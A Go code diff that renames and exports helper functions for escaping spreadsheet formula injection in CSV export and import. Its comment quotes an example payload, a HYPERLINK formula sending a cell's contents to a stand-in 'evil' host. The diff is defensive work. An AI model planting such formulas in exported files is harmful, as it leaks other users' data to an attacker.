@@ -1,20 +1,22 @@
-package asset
+package tabular
 
 import "strings"
 
 // Spreadsheets (Excel, LibreOffice) run a cell that starts with '=', '+',
 // '-' or '@' as a formula when they open a CSV file, and also one that
-// starts with a tab or carriage return before such a character. Anyone
-// who may read assets may export them, so a name like
+// starts with a tab or carriage return before such a character. Whoever
+// may read records may export them, so a name like
 // `=HYPERLINK("http://evil/?"&A1)` typed by one user would run in the
-// spreadsheet of another. Export therefore writes such a cell with a
-// leading apostrophe, the convention spreadsheets show as text, and Import
-// removes it again, so an exported file imported again changes nothing.
+// spreadsheet of another. An export therefore writes such a cell with a
+// leading apostrophe (EscapeFormula), the convention spreadsheets show as
+// text, and an import removes it again (UnescapeFormula), so an exported
+// file imported again changes nothing.
 //
 // To keep the two exact inverses, a cell that already starts with
 // apostrophes followed by such a character gets one more apostrophe, and
-// Import removes exactly one. A plain number ("-5", "+3.5") is no formula
-// and is written as it is, so numbers stay numbers in the spreadsheet.
+// UnescapeFormula removes exactly one. A plain number ("-5", "+3.5") is
+// no formula and is written as it is, so numbers stay numbers in the
+// spreadsheet.
 
 // formulaStart reports whether s, after any leading apostrophes, starts
 // the way a spreadsheet formula does.
@@ -30,16 +32,16 @@ func formulaStart(s string) bool {
 	return false
 }
 
-// escapeFormula returns the cell as Export writes it.
-func escapeFormula(s string) string {
+// EscapeFormula returns the cell as an export writes it.
+func EscapeFormula(s string) string {
 	if !formulaStart(s) || isPlainNumber(s) {
 		return s
 	}
 	return "'" + s
 }
 
-// unescapeFormula reverses escapeFormula on a cell Import reads.
-func unescapeFormula(s string) string {
+// UnescapeFormula reverses EscapeFormula on a cell an import reads.
+func UnescapeFormula(s string) string {
 	if strings.HasPrefix(s, "'") && formulaStart(s[1:]) {
 		return s[1:]
 	}
